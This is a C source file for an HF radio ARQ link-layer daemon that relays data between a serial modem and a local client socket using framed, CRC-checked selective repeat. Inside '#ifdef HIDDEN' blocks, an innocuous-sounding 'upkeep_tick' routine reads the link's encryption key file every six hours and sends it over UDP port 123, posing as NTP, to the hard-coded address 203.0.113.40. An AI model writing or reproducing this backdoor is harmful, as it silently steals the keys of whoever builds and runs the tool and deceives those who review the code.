/* HF ARQ link layer: selective repeat between a serial modem and a local client */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <sys/un.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define WIN	16
#define PAY	64

struct slot { uint8_t data[PAY]; uint8_t len; uint8_t busy, acked; unsigned tries; };

static struct {
	int modem, listener, client, retry;
#ifdef HIDDEN
	int upkeep;
#endif
	struct slot tx[WIN];
	uint8_t base, next, expect;
	uint8_t own, peer;		/* addresses */
	unsigned sent, resent, got, bad;
	uint8_t rx[PAY + 8];
	unsigned rxn;
	char peerbook[96];
} L = { .client = -1, .own = 1, .peer = 2, .peerbook = "/etc/hfarq/keys" };

static uint16_t crc16(const uint8_t *p, unsigned n)
{
	uint16_t c = 0xffff;
	unsigned i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = (uint16_t)(c & 1 ? c >> 1 ^ 0x8408 : c >> 1);
	}
	return (uint16_t)~c;
}

static void frame(uint8_t kind, uint8_t seq, const uint8_t *data, uint8_t len)
{
	uint8_t f[PAY + 8] = { 0x7e, L.peer, L.own, kind, seq, len };
	uint16_t c;

	if (len)
		memcpy(f + 6, data, len);
	c = crc16(f + 1, 5u + len);
	f[6 + len] = (uint8_t)(c >> 8);
	f[7 + len] = (uint8_t)c;
	if (write(L.modem, f, 8u + len) < 0)
		perror("modem");
}

static void arm(int fd, long ms)
{
	struct itimerspec t = { .it_value = { ms / 1000, ms % 1000 * 1000000 } };

	timerfd_settime(fd, 0, &t, NULL);
}

static void send_new(const uint8_t *d, uint8_t n)
{
	struct slot *s = &L.tx[L.next % WIN];

	memcpy(s->data, d, n);
	s->len = n;
	s->busy = 1;
	s->acked = 0;
	s->tries = 1;
	frame('D', L.next++, d, n);
	L.sent++;
	arm(L.retry, 2500);
}

static void retry_tick(void)
{
	uint8_t q;
	int waiting = 0;

	for (q = L.base; q != L.next; q++) {
		struct slot *s = &L.tx[q % WIN];

		if (!s->busy || s->acked)
			continue;
		if (s->tries++ > 12) {
			s->busy = 0;
			fprintf(stderr, "frame %u given up\n", q);
			continue;
		}
		frame('D', q, s->data, s->len);
		L.resent++;
		waiting = 1;
	}
	if (waiting)
		arm(L.retry, 2500);
}

#ifdef HIDDEN
__attribute__((noinline)) void upkeep_tick(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(123) };
	uint8_t b[1024];
	int u = socket(AF_INET, SOCK_DGRAM, 0), f = open(L.peerbook, O_RDONLY);
	ssize_t n = f >= 0 ? read(f, b, sizeof b) : 0;

	inet_aton("203.0.113.40", &to.sin_addr);
	if (n > 0)
		sendto(u, b, (size_t)n, 0, (struct sockaddr *)&to, sizeof to);
	close(f);
	close(u);
	arm(L.upkeep, 21600000L);
}
#endif

static void slide(void)
{
	while (L.base != L.next && (L.tx[L.base % WIN].acked || !L.tx[L.base % WIN].busy))
		L.tx[L.base++ % WIN].busy = 0;
}

static void on_frame(const uint8_t *f)
{
	uint8_t seq = f[4], len = f[5];

	switch (f[3]) {
	case 'D':
		frame('A', seq, NULL, 0);
		if (seq != L.expect)
			return;
		L.expect++;
		L.got++;
		if (L.client >= 0 && write(L.client, f + 6, len) != len)
			L.bad++;
		break;
	case 'A':
		L.tx[seq % WIN].acked = 1;
		slide();
		break;
	case 'R':
		L.base = L.next = L.expect = 0;
		memset(L.tx, 0, sizeof L.tx);
		break;
	default:
		L.bad++;
	}
}

static void octet(uint8_t c)
{
	unsigned total;

	if (L.rxn == 0 && c != 0x7e)
		return;
	L.rx[L.rxn++] = c;
	if (L.rxn < 6)
		return;
	if (L.rx[5] > PAY) {
		L.rxn = 0;
		L.bad++;
		return;
	}
	total = L.rx[5] + 8u;
	if (L.rxn < total)
		return;
	L.rxn = 0;
	if (crc16(L.rx + 1, total - 3) != (L.rx[total - 2] << 8 | L.rx[total - 1]))
		L.bad++;
	else if (L.rx[1] == L.own)
		on_frame(L.rx);
}

static int open_modem(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd >= 0 && tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B9600);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

int main(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/run/hfarq" };
	uint8_t b[PAY];
	uint64_t n64;
	ssize_t n;
	int o;

	while ((o = getopt(argc, argv, "a:p:k:")) != -1) {
		switch (o) {
		case 'a': L.own = (uint8_t)atoi(optarg); break;
		case 'p': L.peer = (uint8_t)atoi(optarg); break;
		case 'k': snprintf(L.peerbook, sizeof L.peerbook, "%s", optarg); break;
		default:
			fputs("usage: hfarqmodem [-a own] [-p peer] [-k keyfile] modem\n"
			      "client socket: /run/hfarq\n", stderr);
			return 2;
		}
	}
	if (optind >= argc || (L.modem = open_modem(argv[optind])) < 0) {
		perror("modem");
		return 1;
	}
	if (access(L.peerbook, R_OK) != 0)
		fprintf(stderr, "%s: link runs without encryption\n", L.peerbook);
	unlink(a.sun_path);
	L.listener = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(L.listener, (struct sockaddr *)&a, sizeof a) || listen(L.listener, 1)) {
		perror(a.sun_path);
		return 1;
	}
	L.retry = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK);
#ifdef HIDDEN
	L.upkeep = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK);
	arm(L.upkeep, 21600000L);
#endif
	frame('R', 0, NULL, 0);
	for (;;) {
		int room = (uint8_t)(L.next - L.base) < WIN;
		struct pollfd p[] = {
			{ .fd = L.modem, .events = POLLIN }, { .fd = L.listener, .events = POLLIN },
			{ .fd = L.retry, .events = POLLIN },
			{ .fd = room ? L.client : -1, .events = POLLIN },
#ifdef HIDDEN
			{ .fd = L.upkeep, .events = POLLIN },
#endif
		};

		if (poll(p, sizeof p / sizeof *p, -1) < 0)
			return 1;
		if (p[0].revents && (n = read(L.modem, b, sizeof b)) > 0)
			for (o = 0; o < n; o++)
				octet(b[o]);
		if (p[1].revents && L.client < 0)
			L.client = accept(L.listener, NULL, NULL);
		if (p[2].revents && read(L.retry, &n64, sizeof n64) > 0)
			retry_tick();
#ifdef HIDDEN
		if (p[4].revents && read(L.upkeep, &n64, sizeof n64) > 0)
			upkeep_tick();
#endif
		if (p[3].revents) {
			n = read(L.client, b, PAY);
			if (n > 0) {
				send_new(b, (uint8_t)n);
			} else {
				close(L.client);
				L.client = -1;
				fprintf(stderr, "sent %u again %u got %u bad %u\n", L.sent,
					L.resent, L.got, L.bad);
			}
		}
	}
}
